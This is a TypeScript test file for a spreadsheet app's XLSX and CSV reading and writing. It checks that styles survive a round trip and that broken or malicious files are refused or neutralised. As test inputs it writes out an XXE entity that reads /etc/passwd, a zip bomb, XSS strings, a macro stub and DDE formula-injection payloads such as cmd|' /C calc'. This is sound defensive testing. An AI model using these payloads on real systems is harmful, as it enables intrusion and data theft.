import { readFileSync } from 'node:fs'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { expect, test } from 'vitest'
import { sheetMaxBytes } from '#shared/contract/fields.ts'
import { getCellStyle, type StoredCell, type StoredSheet } from '#shared/spreadsheet/form.ts'
import { hasExternalReference } from '#shared/spreadsheet/xlsx/external-references.ts'
import { FileError, type FileErrorReason, limits } from '#shared/spreadsheet/xlsx/xlsx-limits.ts'
import { readXlsx } from '#shared/spreadsheet/xlsx/xlsx-read.ts'
import { writeXlsx } from '#shared/spreadsheet/xlsx/xlsx-write.ts'
import { type FileMessage, handleFileRequest } from '#web/features/spreadsheet/grid/file-request.ts'
import { importedBook } from '#web/features/spreadsheet/grid/import-book.ts'
import { toGridSheet } from '#web/features/spreadsheet/grid/to-grid.ts'
import en from '#web/locales/en/sheet.json' with { type: 'json' }
import zh from '#web/locales/zh/sheet.json' with { type: 'json' }

const prices: StoredSheet = {
  name: 'Prices',
  freeze: 'B2',
  styles: [
    {
      font: { bold: true, size: 14, name: 'Arial' },
      align: 'center',
      color: '#ff0000',
      bgcolor: '#fffbe6',
      border: { top: ['thin', '#000000'], bottom: ['medium', '#00ff00'] },
    },
    { numFmt: 'yyyy-mm-dd' },
    { numFmt: '0.00%' },
    { format: 'text' },
    { textwrap: true, rotate: 45, valign: 'middle', underline: true, strike: true },
  ],
  merges: ['A5:B5'],
  rows: {
    0: { cells: { 0: { text: 'Name', style: 0 }, 1: { text: '007', style: 3 }, 2: { text: '008' } } },
    1: {
      height: 40,
      cells: {
        0: { text: '2026-11-21', t: 'd', value: 46347, style: 1 },
        1: { text: '0.125', shown: '12.50%', style: 2 },
        2: { text: '3.5' },
        3: { text: '=B2*C2', value: 0.4375, shown: '0.4375' },
        4: { text: 'a <b> & "c"\nd', style: 4 },
      },
    },
    4: { cells: { 0: { text: 'merged', merge: [0, 1] } } },
    5: { hide: true, cells: { 0: { text: 'TRUE', t: 'b' } } },
    len: 800,
  },
  cols: { 0: { width: 180 }, 2: { hide: true }, len: 26 },
  autofilter: { ref: 'A1:D3' },
}
const second: StoredSheet = {
  name: '表2',
  rows: { 0: { cells: { 0: { text: '第二张表' }, 1: { text: '=Prices!C2+1', value: 4.5, shown: '4.5' } } } },
}

const cellOf = (sheet: StoredSheet | undefined, row: number, column: number) =>
  (sheet?.rows?.[row] as { cells?: Record<string, StoredCell> } | undefined)?.cells?.[column]

// px: the LibreOffice files were made from ours when those had 25 characters, which are 175 px, for 180 px
const widthInFiles = 175

/** Everything of the two sheets above that must survive a file. */
function expectPrices(sheets: StoredSheet[], freeze: string, width = 180): void {
  expect(sheets.map(({ name }) => name)).toEqual(['Prices', '表2'])
  const [one, two] = sheets
  expect(one?.freeze).toBe(freeze)
  expect(one?.merges).toEqual(['A5:B5'])
  expect(cellOf(one, 4, 0)).toMatchObject({ text: 'merged', merge: [0, 1] })
  expect(cellOf(one, 0, 1)?.text).toBe('007')
  expect(cellOf(one, 0, 2)?.text).toBe('008')
  expect(cellOf(one, 1, 0)).toMatchObject({ text: '2026-11-21', t: 'd', value: 46347 })
  expect(cellOf(one, 1, 1)).toMatchObject({ text: '0.125' })
  expect(cellOf(one, 1, 3)).toMatchObject({ text: '=B2*C2', value: 0.4375 })
  expect(cellOf(one, 1, 4)?.text).toBe('a <b> & "c"\nd')
  expect(getCellStyle(one ?? {}, cellOf(one, 0, 0) ?? {})).toMatchObject({
    font: { bold: true, size: 14 },
    color: '#ff0000',
    bgcolor: '#fffbe6',
    align: 'center',
    border: { top: ['thin', '#000000'], bottom: ['medium', '#00ff00'] },
  })
  expect(getCellStyle(one ?? {}, cellOf(one, 1, 4) ?? {})).toMatchObject({
    textwrap: true,
    underline: true,
    strike: true,
    rotate: 45,
  })
  expect(getCellStyle(one ?? {}, cellOf(one, 1, 1) ?? {})?.numFmt).toBe('0.00%')
  expect(one?.rows?.[1]).toMatchObject({ height: 40 })
  expect(one?.rows?.[5]).toMatchObject({ hide: true })
  expect(one?.cols?.[0]).toEqual({ width })
  expect(one?.cols?.[2]).toMatchObject({ hide: true })
  expect(one?.autofilter).toMatchObject({ ref: 'A1:D3' })
  expect(cellOf(two, 0, 1)?.text).toMatch(/^=(\$?Prices[!.])?/)
}

test('a book survives its own file unchanged', () => {
  const { bytes, notes } = writeXlsx([prices, second])
  expect(notes).toEqual({ cut: 0, neutralised: 0 })
  expectPrices(readXlsx(bytes).sheets, 'B2')
})

test('reads the book back from a LibreOffice file', () => {
  // without a window it writes no frozen panes
  const file = new Uint8Array(readFileSync('tests/fixtures/sheet/libreoffice.xlsx'))
  expectPrices(readXlsx(file).sheets, 'A1', widthInFiles)
})

test('keeps panes that LibreOffice froze, also in our own file', () => {
  const { sheets } = readXlsx(new Uint8Array(readFileSync('tests/fixtures/sheet/libreoffice-frozen.xlsx')))
  expectPrices(sheets.slice(0, 2), 'B3', widthInFiles)
  expect(sheets.map(({ freeze }) => freeze)).toEqual(['B3', 'A2', 'C1'])
  // 0.1 + 0.2 as LibreOffice calculates it
  expect(cellOf(sheets[2], 5, 3)).toEqual({ text: '=0.1+0.2', shown: '0.3', value: 0.3 })
  const again = readXlsx(writeXlsx(sheets).bytes).sheets
  expect(again.map(({ freeze }) => freeze)).toEqual(['B3', 'A2', 'C1'])
  expect(toGridSheet(sheets[0] ?? {}, 0, 's').frozen).toEqual({
    type: 'rangeBoth',
    range: { row_focus: 1, column_focus: 0 },
  })
})

const refusalOf = (bytes: Uint8Array): string => {
  try {
    readXlsx(bytes)
    return 'taken'
  } catch (error) {
    return error instanceof FileError ? error.reason : String(error)
  }
}

/** The message in both languages. */
const wordsFor = (bytes: Uint8Array): [en: string, zh: string] => {
  const reason = refusalOf(bytes) as FileErrorReason
  return [en.import.refused[reason], zh.import.refused[reason]]
}

const contentTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A file in the format of Excel, with this inside its only sheet. */
function fileOf(sheetXml: string, more: Record<string, Uint8Array> = {}): Uint8Array {
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
  return zipSync({
    '[Content_Types].xml': strToU8(contentTypes),
    '_rels/.rels': strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      `<workbook ${main} xmlns:r="${rel}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(`<worksheet ${main}>${sheetXml}</worksheet>`),
    ...more,
  })
}

test('rejects what is no spreadsheet, or malicious, with its reason', () => {
  expect(refusalOf(new Uint8Array())).toBe('empty')
  expect(refusalOf(strToU8('hello'))).toBe('notXlsx')
  expect(refusalOf(zipSync({ 'a.txt': strToU8('x') }))).toBe('notXlsx')
  expect(refusalOf(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0, 0, 0, 0]))).toBe('oldXls')
  const locked = [...'EncryptedPackage'].flatMap((letter) => [letter.charCodeAt(0), 0])
  expect(refusalOf(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, ...locked]))).toBe('password')
  expect(refusalOf(writeXlsx([prices]).bytes.subarray(0, 900))).toBe('broken')
  const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(25_000_000) }, { level: 6 })
  expect(refusalOf(bomb)).toBe('bomb')
  const xxe = fileOf('<sheetData/>', {
    'xl/workbook.xml': strToU8('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><workbook/>'),
  })
  expect(refusalOf(xxe)).toBe('hostile')
  expect(refusalOf(new Uint8Array(limits.file + 1))).toBe('tooLarge')
  const sheets = '<sheet name="S" sheetId="1" r:id="rId1"/>'.repeat(limits.sheets + 1)
  expect(refusalOf(fileOf('<sheetData/>', { 'xl/workbook.xml': strToU8(`<workbook>${sheets}</workbook>`) }))).toBe(
    'tooManySheets',
  )
  expect(wordsFor(bomb)).toEqual([
    'This file unpacks to far more than its stated size, so it wasn’t opened.',
    '这个文件解压后的大小远超正常范围，未打开。',
  ])
})

test('every reason has its own message in both languages', () => {
  for (const { import: words } of [en, zh]) {
    const all = Object.values(words.refused)
    expect(new Set(all).size).toBe(all.length)
    expect(all.every((text) => text.length > 5)).toBe(true)
  }
  expect(Object.keys(zh.import.refused)).toEqual(Object.keys(en.import.refused))
  expect(limits.book).toBe(sheetMaxBytes)
})

test('ignores active and external content: macros, links, embedded objects, names', () => {
  const script = '<img src=x onerror=alert(1)><script>alert(1)</script>'
  const file = readXlsx(
    fileOf(
      `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${script.replaceAll('<', '&lt;')}</t></is></c><c r="B1"><f>HYPERLINK("javascript:alert(1)","x")</f><v>1</v></c></row></sheetData><oleObjects><oleObject progId="Package" r:id="rId9"/></oleObjects>`,
      {
        'xl/vbaProject.bin': strToU8('Sub Auto_Open()'),
        'xl/externalLinks/externalLink1.xml': strToU8('<!DOCTYPE x><externalLink/>'),
        'xl/embeddings/oleObject1.bin': strToU8('MZ'),
        'xl/activeX/activeX1.xml': strToU8('<!ENTITY a "b">'),
        'xl/connections.xml': strToU8('<connections><connection odcFile="http://x"/></connections>'),
      },
    ),
  )
  expect(cellOf(file.sheets[0], 0, 0)).toEqual({ text: script })
  expect(JSON.stringify(file.sheets)).not.toMatch(/Auto_Open|oleObject|connection/)
  const again = writeXlsx(file.sheets).bytes
  expect(Object.keys(unzipSync(again)).filter((name) => /vba|external|embed|activeX|connection/i.test(name))).toEqual(
    [],
  )
})

test('replaces formulas with external references by their last values and keeps others', () => {
  for (const formula of [
    "cmd|' /C calc'!A0",
    'DDE("a","b","c")',
    "'[other.xlsx]S'!A1",
    '[1]S!A1',
    'WEBSERVICE("http://x")',
    "'\\\\server\\f'!A1",
    'IMPORTXML("http://x","//a")',
    '_xlfn.IMAGE("http://x/"&A1)',
    // a quote inside a sheet name hides nothing
    `'a"'!A1+cmd|' /C calc'!A0&"x"`,
    `'it''s "'!A1&WEBSERVICE(A1)&"x"`,
  ])
    expect(hasExternalReference(formula), formula).toBe(true)
  for (const formula of ['SUM(A1:A3)', 'IF(A1="cmd|x!",1,2)', "'My sheet'!A1", 'HYPERLINK("https://a.example","x")'])
    expect(hasExternalReference(formula), formula).toBe(false)
  const file = readXlsx(
    fileOf(
      `<sheetData><row r="1"><c r="A1" t="str"><f>cmd|' /C calc'!A0</f><v>5</v></c><c r="B1"><f>[1]S!A1</f><v>7</v></c><c r="C1"><f>1+1</f><v>2</v></c></row></sheetData>`,
    ),
  )
  expect(file.neutralised).toBe(2)
  expect([0, 1, 2].map((at) => cellOf(file.sheets[0], 0, at)?.text)).toEqual(['5', '7', '=1+1'])
})

test('a merely claimed size costs nothing; 32 KB texts, 50 sheets and unusual characters are kept', () => {
  const huge = readXlsx(
    fileOf('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'),
  )
  expect(cellOf(huge.sheets[0], 0, 0)?.text).toBe('1')
  const long = '长'.repeat(32_000)
  const many = Array.from(
    { length: 50 },
    (_, at): StoredSheet => ({
      name: `S:${at}/`,
      rows: { 0: { cells: { 0: { text: long }, 1: { text: 'a\u0001b😀' } } } },
    }),
  )
  const { sheets } = readXlsx(writeXlsx(many).bytes)
  expect(sheets).toHaveLength(50)
  expect(cellOf(sheets[49], 0, 0)?.text).toBe(long)
  expect(cellOf(sheets[49], 0, 1)?.text).toBe('ab😀')
  expect(writeXlsx([{ rows: { 0: { cells: { 0: { text: 'x'.repeat(40_000) } } } } }]).notes.cut).toBe(1)
})

test('the worker returns a file, a table, or a reason', () => {
  const ask = (question: Parameters<typeof handleFileRequest>[0]) => {
    const words: FileMessage[] = []
    handleFileRequest(question, (word) => words.push(word))
    return words.at(-1)
  }
  const read = ask({
    kind: 'read',
    name: '价目.csv',
    bytes: new Uint8Array([0xc3, 0xfb, 0x2c, 0x30, 0x30, 0x37, 0x0a, 0x3d, 0x31]),
  })
  expect(read).toMatchObject({ kind: 'read', file: { sheets: [{ name: '价目' }] } })
  const [found] = read?.kind === 'read' ? read.file.sheets : []
  expect(found?.preview).toEqual([
    ['名', '007'],
    ['=1', ''],
  ])
  const sheet = JSON.parse(found?.text ?? '{}') as StoredSheet
  expect([cellOf(sheet, 0, 0), cellOf(sheet, 0, 1), cellOf(sheet, 1, 0)]).toEqual([
    { text: '名' },
    { text: '007' },
    { text: '=1', t: 's' },
  ])
  expect(ask({ kind: 'read', name: 'a.xlsx', bytes: strToU8('x') })).toEqual({ kind: 'refused', reason: 'notXlsx' })
  const csv = ask({ kind: 'write', as: 'csv', content: JSON.stringify([prices]), sheet: 'Prices' })
  const text = csv?.kind === 'written' ? new TextDecoder('utf-8', { ignoreBOM: true }).decode(csv.bytes) : ''
  expect(text.startsWith('\ufeffName,007,008')).toBe(true)
  expect(text).toContain('12.50%')
})

test('imported sheets replace the others, or follow them under free names', () => {
  expect(importedBook([prices], [second], 'replace')).toEqual([second])
  expect(importedBook([prices], [prices, prices], 'add').map(({ name }) => name)).toEqual([
    'Prices',
    'Prices (2)',
    'Prices (3)',
  ])
})
